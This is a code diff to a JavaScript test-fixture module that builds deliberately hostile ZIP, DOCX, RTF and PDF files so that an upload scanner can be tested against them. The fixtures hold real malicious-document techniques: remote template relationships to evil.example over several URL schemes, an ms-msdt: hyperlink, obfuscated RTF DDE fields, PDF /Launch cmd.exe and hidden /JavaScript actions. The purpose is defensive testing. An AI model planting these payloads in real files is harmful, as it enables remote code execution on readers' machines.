@@ -2,8 +2,8 @@
 // refused by. Made here, so that no scanner of anybody's takes this repository for what it tests.
 import { deflateRawSync, deflateSync } from "node:zlib";
 
-const text = (s) => Buffer.from(s, "latin1");
-const PDF = "%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n";
+export const text = (s) => Buffer.from(s, "latin1");
+export const PDF = "%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n";
 
 /** A ZIP whose records may lie. An entry: name, content, and what differs. */
 export function zip(entries, { parts, at, before = Buffer.alloc(0), behind = Buffer.alloc(0), gap = Buffer.alloc(0) } = {}) {
@@ -95,7 +95,7 @@ export function jpeg(width, height, before = 0) {
   return Buffer.concat([Buffer.from("ffd8", "hex"), ...segments, frame, Buffer.from("ffd9", "hex")]);
 }
 
-const relation = (kind) => `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>`;
+export const relation = (kind, target = "https://evil.example/x.dotm") => `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/></Relationships>`;
 
 /** The files: row of the hazards, name, bytes, code, and the slot they are sent for. */
 export function hostile() {
@@ -189,11 +189,11 @@ export function hostile() {
   const written = [Buffer.from(`\ufeff${template}`, "utf16le"), Buffer.from(`\ufeff${template}`, "utf16le").swap16(), template.replace("attachedTemplate", "attachedTemplat&#101;"), template.replace("https", "&#104;ttps"), template.replace("https:", "ht&#9;tps:")];
   for (const xml of written) add("A44", "cv.docx", docx([["word/_rels/settings.xml.rels", xml]]), "file_unsafe");
   add("A44", "cv.docx", docx([["WORD/_RELS/SETTINGS.XML.RELS", template]]), "file_unsafe");
-  for (const target of ["\\\\evil.example\\s\\t.dotm", "file://evil.example/t.dotm", "ftp://evil.example/t.dotm", "mhtml:http://evil.example/t", "//evil.example/t.dotm"]) add("A44", "cv.docx", docx([["word/_rels/settings.xml.rels", template.replace("https://evil.example/x.dotm", target)]]), "file_unsafe");
+  for (const target of ["\\\\evil.example\\s\\t.dotm", "file://evil.example/t.dotm", "ftp://evil.example/t.dotm", "mhtml:http://evil.example/t", "//evil.example/t.dotm"]) add("A44", "cv.docx", docx([["word/_rels/settings.xml.rels", relation("attachedTemplate", target)]]), "file_unsafe");
   add("A44", "cv.docx", docx([["word/_rels/aaa.xml.rels", `<r>${"y".repeat(17_000_000)}</r>`], ["word/_rels/settings.xml.rels", template]]), "file_unsafe");
   add("A44", "cv.docx", docx([["word/_rels/document.xml.rels", relation("aFChunk")]]), "file_unsafe");
-  add("A44", "cv.docx", docx([["word/_rels/document.xml.rels", relation("aFChunk").replace("https://evil.example/x.dotm", "a.dat").replace("External", "Internal")], ["word/a.dat", "{\\rtf1}"]]), "file_unsafe");
-  add("A44", "cv.docx", docx([["word/_rels/document.xml.rels", relation("hyperlink").replace("https://evil.example/x.dotm", "ms-msdt:/id x")]]), "file_unsafe");
+  add("A44", "cv.docx", docx([["word/_rels/document.xml.rels", relation("aFChunk", "a.dat").replace("External", "Internal")], ["word/a.dat", "{\\rtf1}"]]), "file_unsafe");
+  add("A44", "cv.docx", docx([["word/_rels/document.xml.rels", relation("hyperlink", "ms-msdt:/id x")]]), "file_unsafe");
   for (const name of ["a.docm", "a.hta", "a.scr", "a.ps1", "a.msi", "a.iso", "a.jse", "a.cmd", "a.LNK"]) add("A44", "cv.docx", docx([[`word/embeddings/${name}`, "x"]]), "file_unsafe");
   for (const inside of ["{\\*\\template http://evil.example/t.dotm}", "{\\field{\\*\\fldinst {\\b D}{\\i DE}AUTO excel}}", "{\\field{\\*\\fldinst \\'44\\'44E excel}}", "{\\field{\\*\\fldinst \\u68?DE excel}}", "{\\object\\objhtml x}", "{\\*\\datastore 0105000002000000080000005061636b61676500}"]) add("A44", "cv.rtf", `{\\rtf1 ${inside}}`, "file_unsafe");
   const scripts = ["/S%x\n/Launch/F(cmd.exe)", `/S${" ".repeat(60)}/L#61unch`, "/JS%x\n(app.alert(1))", "/#4a#53<6170702e616c657274283129>", "/JS 9 0 R"];
